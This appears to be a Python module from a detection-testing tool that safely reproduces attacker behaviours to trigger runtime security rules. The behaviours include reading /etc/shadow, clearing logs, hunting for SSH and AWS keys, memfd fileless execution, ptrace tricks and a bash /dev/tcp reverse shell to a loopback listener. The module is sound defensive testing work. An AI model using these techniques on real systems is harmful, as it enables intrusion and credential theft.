"""The behaviours the scenarios perform, for real and safely (capture/scenarios.py names them).

Each action runs in the scenario's root process (forked by the runner, recorded with its
descendants) and gets an `ActionContext`: its own scratch directory, its container sandbox if it
has one, and the runner's loopback listeners. The rules: every file made is a scratch file,
removed before the action returns (the few outside the scratch directory, below /etc,
/usr/local/bin, /var/log and /dev/shm, have a random name and are removed in a `finally`);
nothing existing is modified; network traffic stays on loopback or inside a network namespace
of its own; ptrace is used on our own children only; every child is waited for.

The upstream rules' conditions decide the details (see each action): a `-e` in the netcat
command line, a log file named like a log, an SSH server address that is neither loopback nor
private, a root process named like a web server.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from capture.container_sandbox import ContainerSandbox

PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_DETACH = 0, 16, 17
CLONE_NEWNET = 0x40000000
PR_SET_NAME = 15
TIMEOUT = 30  # seconds any one command may take
# TEST-NET-3 (RFC 5737): an address that is neither loopback nor private, as the upstream SSH
# rule needs, given to the loopback device of a network namespace of our own.
SSH_SERVER = "203.0.113.10"
SSH_PORT = 443  # in the upstream rule's ssh_non_standard_ports
NETCAT_SCRIPT = """#!/bin/bash
# sysreplay scenario: netcat-style reverse shell, `nc -e SHELL HOST PORT`, to a loopback listener.
exec 3<>"/dev/tcp/$3/$4" || exit 1
exec 0<&3 1>&3
"$2" -c 'echo sysreplay scenario'
"""


class ActionError(RuntimeError):
    """A behaviour could not be performed (a missing tool, a failed command)."""


@dataclass(frozen=True)
class ActionContext:
    scratch: Path  # this scenario's own directory (mode 0700), removed by the runner
    container: ContainerSandbox | None = None
    ports: Mapping[str, int] = field(default_factory=dict)  # runner's loopback listeners

    @property
    def sandbox(self) -> ContainerSandbox:
        if self.container is None:
            raise ActionError("This action needs a container sandbox.")
        return self.container


# ---- helpers ---------------------------------------------------------------------------------

_libc = ctypes.CDLL(None, use_errno=True)


def libc_call(name: str, *args: int) -> int:
    result = int(getattr(_libc, name)(*[ctypes.c_long(a) for a in args]))
    if result == -1:
        err = ctypes.get_errno()
        raise ActionError(f"{name}{args}: {os.strerror(err)}")
    return result


def set_comm(name: str) -> None:
    """Set this process's command name (`proc.name`), as `prctl(PR_SET_NAME)` does."""
    buf = ctypes.create_string_buffer(name.encode()[:15])
    if _libc.prctl(PR_SET_NAME, buf, 0, 0, 0) != 0:
        raise ActionError(f"prctl(PR_SET_NAME): {os.strerror(ctypes.get_errno())}")


def tool(name: str) -> str:
    found = shutil.which(name)
    if found is None:
        raise ActionError(f"This scenario needs `{name}` on PATH.")
    return found


def run(argv: Sequence[str], *, container: ContainerSandbox | None = None,
        check: bool = True) -> subprocess.CompletedProcess[bytes]:
    """Run a command (in the container when given) with no stdin and quiet output."""
    cmd = container.command(argv) if container is not None else list(argv)
    done = subprocess.run(cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                          stderr=subprocess.PIPE, timeout=TIMEOUT, check=False)
    if check and done.returncode != 0:
        err = done.stderr.decode(errors="replace").strip()[:300]
        raise ActionError(f"{' '.join(argv)} exited with {done.returncode}: {err}")
    return done


@contextlib.contextmanager
def scratch_file(directory: str, suffix: str = "") -> Iterator[Path]:
    """A new file name below `directory`, removed on the way out whatever happened."""
    path = Path(directory) / f"sysreplay-scenario-{secrets.token_hex(4)}{suffix}"
    try:
        yield path
    finally:
        path.unlink(missing_ok=True)


def write_new(path: Path, data: bytes = b"sysreplay scenario\n", mode: int = 0o600,
              flags: int = 0) -> None:
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | flags, mode)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


def reap(child: int) -> int:
    """Wait for a forked child; its exit status."""
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


# ---- files -----------------------------------------------------------------------------------

def read_sensitive_files(ctx: ActionContext) -> None:
    """Open credential files for reading, directly and through a `../` path (read nothing)."""
    for path in ("/etc/shadow", "/etc/sudoers", "/etc/../etc/../etc/shadow"):
        if os.path.exists(path):
            os.close(os.open(path, os.O_RDONLY))


def read_sensitive_file_after_startup(ctx: ActionContext) -> None:
    """The root is named like a web server and older than 5 s (the runner sees to both)."""
    os.close(os.open("/etc/shadow", os.O_RDONLY))


def write_below_etc(ctx: ActionContext) -> None:
    with scratch_file("/etc") as path:
        write_new(path)


def write_below_binary_dir(ctx: ActionContext) -> None:
    with scratch_file("/usr/local/bin") as path:
        write_new(path, b"#!/bin/sh\nexit 0\n", 0o700)


def link_sensitive_files(ctx: ActionContext) -> None:
    """A symlink and a hard link to /etc/shadow in the (private) scratch directory."""
    os.symlink("/etc/shadow", ctx.scratch / "shadow-symlink")
    os.link("/etc/shadow", ctx.scratch / "shadow-hardlink")
    (ctx.scratch / "shadow-symlink").unlink()
    (ctx.scratch / "shadow-hardlink").unlink()


def clear_logs(ctx: ActionContext) -> None:
    """Truncate a log: a scratch `syslog` (the upstream rule knows log files by name) and a
    scratch file below /var/log (ours looks there)."""
    syslog = ctx.scratch / "syslog"
    syslog.write_bytes(b"sysreplay scenario log line\n")
    os.close(os.open(syslog, os.O_WRONLY | os.O_TRUNC))
    with scratch_file("/var/log", ".log") as path:
        write_new(path)
        os.close(os.open(path, os.O_WRONLY | os.O_TRUNC))


def search_private_keys(ctx: ActionContext) -> None:
    (ctx.scratch / ".ssh").mkdir()
    (ctx.scratch / ".ssh" / "id_rsa").write_text("not a key: sysreplay scenario\n")
    run([tool("find"), str(ctx.scratch), "-maxdepth", "2", "-name", "id_rsa"])
    run([tool("grep"), "-rl", "BEGIN RSA PRIVATE", str(ctx.scratch)], check=False)


def find_aws_credentials(ctx: ActionContext) -> None:
    aws = ctx.scratch / ".aws"
    aws.mkdir()
    (aws / "credentials").write_text("[default]\naws_secret_access_key = not-a-secret\n")
    run([tool("grep"), "-rl", "aws_secret_access_key", str(ctx.scratch)])
    run([tool("find"), str(ctx.scratch), "-path", "*.aws/credentials"])


def remove_bulk_data(ctx: ActionContext) -> None:
    victim = ctx.scratch / "data.bin"
    victim.write_bytes(b"\0" * 4096)
    run([tool("shred"), "-u", str(victim)])


# ---- processes -------------------------------------------------------------------------------

def exec_from_dev_shm(ctx: ActionContext) -> None:
    with scratch_file("/dev/shm", ".sh") as path:
        write_new(path, b"#!/bin/sh\nexit 0\n", 0o700)
        run([str(path)])


def fileless_exec(ctx: ActionContext) -> None:
    """Copy /bin/true into a memfd and execute it from there (fexecve: execveat on the fd)."""
    fd = os.memfd_create("sysreplay-scenario", 0)
    try:
        with open(tool("true"), "rb") as binary:
            os.write(fd, binary.read())
        child = os.fork()
        if child == 0:
            try:
                os.execve(fd, ["true"], {})
            finally:
                os._exit(127)
        if (status := reap(child)) != 0:
            raise ActionError(f"true run from a memfd exited with {status}")
    finally:
        os.close(fd)


def ptrace_attach(ctx: ActionContext) -> None:
    """Attach to a child of ours (a sleep), then detach and end it."""
    sleeper = subprocess.Popen([tool("sleep"), "30"], stdin=subprocess.DEVNULL)
    try:
        libc_call("ptrace", PTRACE_ATTACH, sleeper.pid, 0, 0)
        os.waitpid(sleeper.pid, 0)  # stopped by the attach
        libc_call("ptrace", PTRACE_DETACH, sleeper.pid, 0, 0)
    finally:
        sleeper.send_signal(signal.SIGKILL)
        sleeper.wait()


def ptrace_traceme(ctx: ActionContext) -> None:
    """A child asks to be traced by us (the anti-debugging trick), then exits."""
    child = os.fork()
    if child == 0:
        try:
            libc_call("ptrace", PTRACE_TRACEME, 0, 0, 0)
        finally:
            os._exit(0)
    reap(child)


def run_shell_untrusted(ctx: ActionContext) -> None:
    """The root is named like a web server (see the scenario); it starts a shell."""
    run([tool("sh"), "-c", "ls / > /dev/null"])


def system_user_interactive(ctx: ActionContext) -> None:
    """A program named `login` (a link to /bin/true) run as the system user daemon."""
    ctx.scratch.chmod(0o755)  # daemon must reach the link; the directory holds nothing else
    login = ctx.scratch / "login"
    login.symlink_to(tool("true"))
    run([tool("setpriv"), "--reuid=daemon", "--regid=daemon", "--clear-groups", str(login)])


# ---- network ---------------------------------------------------------------------------------

def packet_socket(ctx: ActionContext) -> None:
    """Open and close an AF_PACKET socket in the container (its own network namespace)."""
    code = "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()"
    run([sys.executable, "-I", "-S", "-c", code], container=ctx.sandbox)


def netcat_reverse_shell(ctx: ActionContext) -> None:
    """`nc -e /bin/sh 127.0.0.1 PORT` in the container: a script named nc connects to the
    runner's listener, puts the socket on its stdin/stdout and runs a shell there."""
    nc = ctx.scratch / "nc"
    nc.write_text(NETCAT_SCRIPT)
    nc.chmod(0o700)
    run([str(nc), "-e", tool("sh"), "127.0.0.1", str(ctx.ports["shell"])],
        container=ctx.sandbox)


def ssh_non_standard_port(ctx: ActionContext) -> None:
    """ssh to port 443 of a public-looking address, inside a network namespace of our own
    whose only device is loopback: nothing leaves the machine. Our listener closes at once."""
    libc_call("unshare", CLONE_NEWNET)
    ip = tool("ip")
    run([ip, "addr", "add", f"{SSH_SERVER}/32", "dev", "lo"])
    run([ip, "link", "set", "lo", "up"])
    with socket.create_server((SSH_SERVER, SSH_PORT)) as server:
        server.settimeout(TIMEOUT)
        # No config, no keys (ssh would open ~/.ssh/id_* at start), no prompt, no known_hosts.
        options = ("BatchMode=yes", "IdentityFile=none", "StrictHostKeyChecking=no",
                   "UserKnownHostsFile=/dev/null", "ConnectTimeout=10")
        argv = [tool("ssh"), "-F", "/dev/null", *(f"-o{o}" for o in options),
                "-p", str(SSH_PORT), f"sysreplay@{SSH_SERVER}", "true"]
        client = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL)
        try:
            conn, _ = server.accept()
            conn.close()
        finally:
            client.wait(TIMEOUT)


def k8s_api_from_container(ctx: ActionContext) -> None:
    """curl to a Kubernetes API port on loopback, from the container (no TLS answer comes)."""
    url = f"https://127.0.0.1:{ctx.ports['k8s-api']}/version"
    run([tool("curl"), "-sk", "--max-time", "5", url], container=ctx.sandbox, check=False)


# ---- containers ------------------------------------------------------------------------------

def shell_in_container(ctx: ActionContext) -> None:
    run([tool("sh"), "-c", "id > /dev/null; ls / > /dev/null"], container=ctx.sandbox)


def unexpected_process_in_image(ctx: ActionContext) -> None:
    run([tool("id")], container=ctx.sandbox)


def release_agent_write(ctx: ActionContext) -> None:
    """Write a file named release_agent (a scratch file, not a cgroup's) in the container."""
    run([tool("touch"), str(ctx.scratch / "release_agent")], container=ctx.sandbox)


def debugfs_in_container(ctx: ActionContext) -> None:
    """A program named debugfs, a link to /bin/true: the name is what the rule looks at."""
    debugfs = ctx.scratch / "debugfs"
    debugfs.symlink_to(tool("true"))
    run([str(debugfs), "-V"], container=ctx.sandbox)


def namespace_change_in_container(ctx: ActionContext) -> None:
    run([tool("unshare"), "--uts", tool("true")], container=ctx.sandbox)


# ---- the benign workload ---------------------------------------------------------------------

def benign_workload(ctx: ActionContext) -> None:
    """Everyday commands that none of our rules should flag."""
    work = ctx.scratch / "work"
    work.mkdir()
    (work / "notes.txt").write_text("b\na\nc\n")
    run([tool("ls"), "-la", str(ctx.scratch)])
    run([tool("cat"), "/etc/hostname", "/etc/os-release"])
    run([tool("sort"), "-o", str(work / "sorted.txt"), str(work / "notes.txt")])
    run([tool("tar"), "-C", str(ctx.scratch), "-czf", str(ctx.scratch / "work.tgz"), "work"])
    run([sys.executable, "-c", "print(sum(range(10)))"])
    run([tool("sh"), "-c", f"ls {ctx.scratch} | sort > /dev/null"])
    run([tool("curl"), "-s", "-o", "/dev/null", f"http://127.0.0.1:{ctx.ports['http']}/"])
